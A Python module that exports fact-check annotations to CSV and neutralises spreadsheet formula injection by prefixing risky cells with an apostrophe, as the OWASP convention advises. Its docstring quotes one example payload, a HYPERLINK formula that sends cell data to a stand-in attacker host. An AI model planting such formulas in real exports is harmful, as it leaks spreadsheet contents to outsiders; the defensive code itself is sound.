"""CSV: one annotation a row, flat columns, readable by pandas with no options.

RFC 4180 CSV in UTF-8 with a header row, ``\\r\\n`` line ends, quoting only where
needed. Empty cells are empty strings (or missing numbers). Citations are joined
like this:

- ``citation_count``: how many citations the annotation has;
- ``citation_urls`` / ``citation_stances``: the citations' URLs and stances, one per
  line inside the cell (newline-separated, in the same order);
- ``citations``: all citation fields as a JSON array (the JSONL shape), so nothing
  is lost by flattening.

``reviewed_by`` lists reviewer usernames separated by ``;`` (usernames cannot
contain it). ``verdict_rating`` is the ClaimReview rating (1-5) or empty.

Formula injection: a spreadsheet runs a cell that begins with ``=``, ``+``, ``-``,
``@``, a tab, a carriage return or a NUL (or the full-width ``＝ ＋ － ＠``) as a
formula, so a speaker or claim such as ``=HYPERLINK("http://evil.example/?"&A1,"x")``
would act when the file is opened. Every text cell that begins with one of those,
or with an apostrophe, is written with one more apostrophe in front (the OWASP
convention: spreadsheets show the rest as text). Removing one leading apostrophe
from a text cell that begins with one gives the exact text back (:func:`restore`);
the JSONL and the other formats keep the exact text. A negative number written in
a text column (``-4.2`` as a verdict summary) is text and gets the apostrophe too;
the integer columns (offsets, ordinal, counts, rating) are numbers and never do.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import IO, Any

from annotate.datasets.exporters.base import Counts, DataFile, SegmentRecord, canonical, reviewed_by
from annotate.models import VERDICT_RATINGS
from annotate.records import CITATION_FIELDS

# A text cell beginning with one of these is run as a formula by some spreadsheet;
# the apostrophe itself is listed so that removing one leading apostrophe always
# restores the original text.
FORMULA_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\x00",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "'",
)
NEUTRALISED = (
    "Text cells that begin with =, +, -, @, a tab, a carriage return, a NUL, their "
    "full-width forms or an apostrophe are written with a leading apostrophe (') so that "
    "spreadsheets do not run them as formulas; remove one leading apostrophe to get the "
    "exact text (the JSONL export has it as is)."
)


def neutralise(text: str) -> str:
    """``text`` as a CSV cell a spreadsheet will not run: an apostrophe before a formula start."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def restore(cell: str) -> str:
    """The exact text of a text cell written by :func:`neutralise`."""
    return cell[1:] if cell.startswith("'") else cell


# (column, Table Schema type, description)
COLUMNS: tuple[tuple[str, str, str], ...] = (
    ("annotation_id", "string", "UUID of the annotation"),
    ("segment_id", "string", "UUID of the segment"),
    ("transcript_id", "string", "UUID of the transcript"),
    ("transcript_title", "string", ""),
    ("source_id", "string", "UUID of the source document"),
    ("source_sha256", "string", "SHA-256 of the source's exact bytes (file in sources/)"),
    ("source_origin_url", "string", ""),
    ("ordinal", "integer", "Position of the segment in its transcript, from 1"),
    ("clock", "string", "HH:MM when the written clock parses, else as written"),
    ("location", "string", ""),
    ("speaker", "string", ""),
    ("speaker_role", "string", ""),
    ("start", "integer", "Offset of the quote in the segment text"),
    ("end", "integer", "End offset (exclusive) of the quote in the segment text"),
    ("source_start", "integer", "Offset of the quote in the source text"),
    ("source_end", "integer", "End offset (exclusive) of the quote in the source text"),
    ("quote", "string", "Exactly segment text [start:end]"),
    ("claim_type", "string", "Claim type slug"),
    ("claim_text", "string", "The claim restated"),
    ("verdict", "string", ""),
    ("verdict_rating", "integer", "ClaimReview rating, 5 (true) to 1 (false); empty if unrated"),
    ("verdict_summary", "string", ""),
    ("status", "string", "draft, in-review, approved or rejected"),
    ("created_by", "string", "Username of the annotator"),
    ("reviewed_by", "string", "Reviewer usernames separated by ';'"),
    ("citation_count", "integer", ""),
    ("citation_urls", "string", "Citation URLs, one per line"),
    ("citation_stances", "string", "Citation stances, one per line, same order as the URLs"),
    ("citations", "string", "All citation fields as a JSON array"),
)
HEADER = [name for name, _, _ in COLUMNS]


# Which columns hold text (neutralised); numbers are written as they are.
_IS_TEXT = tuple(kind == "string" for _, kind, _ in COLUMNS)


def table_schema() -> dict[str, Any]:
    fields = []
    for name, kind, description in COLUMNS:
        field: dict[str, Any] = {"name": name, "type": kind}
        if kind == "string":
            note = "A leading apostrophe was added if the text begins like a formula."
            description = f"{description}. {note}" if description else note
        if description:
            field["description"] = description
        fields.append(field)
    return {"fields": fields, "primaryKey": ["annotation_id"], "missingValues": [""]}


def row(segment: SegmentRecord, annotation: dict[str, Any]) -> list[Any]:
    """The CSV row of one annotation, its text cells neutralised."""
    cells = _cells(segment, annotation)
    return [
        neutralise(cell) if text and isinstance(cell, str) else cell
        for text, cell in zip(_IS_TEXT, cells, strict=True)
    ]


def _cells(segment: SegmentRecord, annotation: dict[str, Any]) -> list[Any]:
    citations = annotation["citations"]
    rating = VERDICT_RATINGS.get(annotation["verdict"])
    return [
        annotation["id"],
        segment["id"],
        segment["transcript_id"],
        segment["transcript_title"],
        segment["source_id"],
        segment["source_sha256"],
        segment["source_origin_url"],
        segment["ordinal"],
        segment["clock_normalised"] or segment["clock"],
        segment["location"],
        segment["speaker"],
        segment["speaker_role"],
        annotation["start"],
        annotation["end"],
        segment["source_start"] + annotation["start"],
        segment["source_start"] + annotation["end"],
        annotation["quote"],
        annotation["claim_type"],
        annotation["claim_text"],
        annotation["verdict"],
        "" if rating is None else rating,
        annotation["verdict_summary"],
        annotation["status"],
        annotation["created_by"],
        ";".join(reviewed_by(annotation)),
        len(citations),
        "\n".join(c["url"] for c in citations),
        "\n".join(c["stance"] for c in citations),
        canonical([{key: c[key] for key in CITATION_FIELDS} for c in citations]),
    ]


class CsvExporter:
    name = "csv"
    description = "CSV: one annotation a row, flat columns"
    annotation_unit = True
    default_approved_only = False
    rated_only = False
    needs_ledger = False
    needs_publisher = False

    def data_files(self, options: dict[str, Any]) -> list[DataFile]:
        return [
            DataFile(
                path="data/annotations.csv",
                name="annotations",
                format="csv",
                mediatype="text/csv",
                description="One annotation a row. Citations: citation_urls and "
                "citation_stances hold one value per line; citations holds them all "
                f"as a JSON array. {NEUTRALISED}",
                schema=table_schema(),
            )
        ]

    def write(
        self,
        segments: Iterable[SegmentRecord],
        outs: dict[str, IO[bytes]],
        *,
        context: dict[str, Any],
    ) -> Counts:
        out = outs["annotations"]
        counts = Counts()
        buffer = io.StringIO()
        writer = csv.writer(buffer, lineterminator="\r\n")
        writer.writerow(HEADER)
        for segment in segments:
            counts.segments += 1
            for annotation in segment["annotations"]:
                counts.add_annotation(annotation)
                writer.writerow(row(segment, annotation))
            if buffer.tell() > 1 << 16:
                out.write(buffer.getvalue().encode("utf-8"))
                buffer.seek(0)
                buffer.truncate()
        out.write(buffer.getvalue().encode("utf-8"))
        counts.records = counts.annotations
        return counts
